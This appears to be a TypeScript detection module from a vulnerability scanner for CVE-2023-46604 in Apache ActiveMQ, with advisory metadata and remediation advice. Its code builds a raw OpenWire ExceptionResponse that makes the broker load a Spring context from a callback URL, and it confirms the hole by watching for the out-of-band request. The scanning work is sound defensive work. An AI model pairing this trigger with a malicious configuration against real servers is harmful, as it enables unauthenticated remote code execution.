/** ActiveMQ's own protocol. */
import { setTimeout as delay } from 'node:timers/promises'
import { bytes, hex, withLength } from '#wire.ts'
import { checkInfo, type NativeCheck } from '#native/native-check.ts'

const anyClass = checkInfo({
  id: 'CVE-2023-46604',
  name: 'Apache ActiveMQ: remote code execution via OpenWire',
  severity: 'critical',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  score: 9.8,
  summary:
    'Apache ActiveMQ before 5.18.3, 5.17.6, 5.16.7, and 5.15.16 instantiates any class that an OpenWire client specifies. The check made the broker request a Spring configuration from the callback server, which returned none.',
  impact: 'An unauthenticated attacker can run commands on the server. Exploited in the wild.',
  remediation:
    'Update ActiveMQ to 5.15.16, 5.16.7, 5.17.6, 5.18.3, or later, and bind the OpenWire connector to a private network.',
  reference: 'https://activemq.apache.org/security-advisories.data/CVE-2023-46604-announcement.txt',
  tags: 'cve cve2023 openwire activemq rce kev callback network',
  verifiedOn: 'activemq-spring',
})
const callbackWaitMs = 4000
const pollMs = 200
const contextClass = 'org.springframework.context.support.ClassPathXmlApplicationContext'

const text = (value: string) =>
  Buffer.concat([hex('01'), Buffer.from([value.length >> 8, value.length & 0xff]), bytes(value)])

/** ExceptionResponse with a throwable of the given class and message, in the encoding that precedes a negotiation. */
function exceptionResponse(className: string, message: string): Buffer {
  return withLength(Buffer.concat([hex('1f 00000000 00 00000000 01'), text(className), text(message)]))
}

export const openwire: NativeCheck = {
  checks: [{ ...anyClass, cves: [anyClass.id] }],
  appliesTo: ({ protocol }) => protocol === 'openwire',
  async run({ callbacks, withConnection, signal }) {
    if (!callbacks) return {}
    const { id, url } = callbacks.create()
    try {
      const sent = await withConnection(async (connection) => {
        await connection.read({ firstByteMs: 3000, idleMs: 200 })
        connection.write(exceptionResponse(contextClass, `http://${url}`))
        await connection.read({ firstByteMs: 1000, idleMs: 100 })
        return true
      })
      if (sent === undefined) return {}
      const until = performance.now() + callbackWaitMs
      while (callbacks.interactions(id).length === 0 && performance.now() < until) {
        await delay(pollMs, undefined, { signal }).catch(() => signal.throwIfAborted())
      }
      const call = callbacks.interactions(id).find(({ protocol }) => protocol !== 'ldap')
      if (!call) return { [anyClass.id]: null }
      const request = `ExceptionResponse, ${contextClass}("http://${url}")`
      return { [anyClass.id]: { request, answer: call.request, highlights: [call.protocol], quality: 98 } }
    } finally {
      callbacks.forget(id)
    }
  },
}
